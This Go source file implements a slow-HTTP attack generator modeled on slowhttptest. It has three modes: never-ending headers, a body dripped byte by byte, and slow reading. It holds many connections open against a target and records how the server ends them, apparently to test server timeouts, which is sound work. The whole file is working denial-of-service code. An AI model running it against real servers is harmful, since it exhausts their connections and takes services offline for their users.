package slow

import (
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// Mode is what a slow client is slow at.
type Mode string

// The modes, as slowhttptest has them.
const (
	Headers Mode = "headers" // a head that never ends
	Body    Mode = "body"    // a body that never ends
	Read    Mode = "read"    // an answer that is hardly taken
)

// Modes are all of them.
func Modes() []Mode { return []Mode{Headers, Body, Read} }

// Attack is a crowd of slow clients: a small generator in place of slowhttptest.
type Attack struct {
	Mode        Mode
	Target      string // host:port
	Connections int
	Every       time.Duration // between the bytes of a connection
}

// Result is what became of the connections.
type Result struct {
	Opened, Ended int64         // by the server
	Last          time.Duration // when the last of those was, since it was opened
}

// Run opens the connections, keeps them as long as the server lets it, and closes those that
// are left when ctx ends.
func (a Attack) Run(ctx context.Context) Result {
	var (
		wg   sync.WaitGroup
		r    Result
		last atomic.Int64
	)
	for range a.Connections {
		wg.Go(func() {
			var d net.Dialer
			c, err := d.DialContext(ctx, "tcp", a.Target)
			if err != nil {
				return
			}
			atomic.AddInt64(&r.Opened, 1)
			stop := context.AfterFunc(ctx, func() { _ = c.Close() })
			defer stop()
			from := time.Now()
			a.drip(c)
			if ctx.Err() == nil {
				atomic.AddInt64(&r.Ended, 1)
				d := int64(time.Since(from))
				for old := last.Load(); d > old && !last.CompareAndSwap(old, d); old = last.Load() {
				}
			}
			_ = c.Close()
		})
	}
	wg.Wait()
	r.Last = time.Duration(last.Load())
	return r
}

// drip is one connection, until it fails.
func (a Attack) drip(c net.Conn) {
	gone := make(chan struct{})
	switch a.Mode {
	case Headers:
		_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: slow\r\n")
		go ended(c, gone)
		drops(c, a.Every, gone, func(n int) string { return fmt.Sprintf("X-%d: 1\r\n", n) })
	case Body:
		_, _ = io.WriteString(c, "POST / HTTP/1.1\r\nHost: slow\r\nContent-Length: 8192\r\n\r\n")
		go ended(c, gone)
		drops(c, a.Every, gone, func(int) string { return "x" })
	case Read:
		if t, ok := c.(*net.TCPConn); ok {
			_ = t.SetReadBuffer(1) // the least that the system gives
		}
		_, _ = io.WriteString(c, "GET /big HTTP/1.1\r\nHost: slow\r\n\r\n")
		for b := make([]byte, 32); ; time.Sleep(a.Every) {
			if _, err := c.Read(b); err != nil || broken(c) {
				return
			}
		}
	}
}

// broken says whether the server has reset the connection, of which Read tells only when all that
// came before is read.
func broken(c net.Conn) bool {
	t, ok := c.(*net.TCPConn)
	if !ok {
		return false
	}
	raw, err := t.SyscallConn()
	if err != nil {
		return true
	}
	code := 0
	err = raw.Control(func(fd uintptr) { code, _ = syscall.GetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_ERROR) })
	return err != nil || code != 0
}

// ended reads until the server has ended the connection.
func ended(c net.Conn, gone chan<- struct{}) {
	_, _ = io.Copy(io.Discard, c)
	close(gone)
}

func drops(c net.Conn, every time.Duration, gone <-chan struct{}, next func(int) string) {
	t := time.NewTicker(every)
	defer t.Stop()
	for n := 0; ; n++ {
		select {
		case <-gone:
			return
		case <-t.C:
		}
		if _, err := io.WriteString(c, next(n)); err != nil {
			return
		}
	}
}
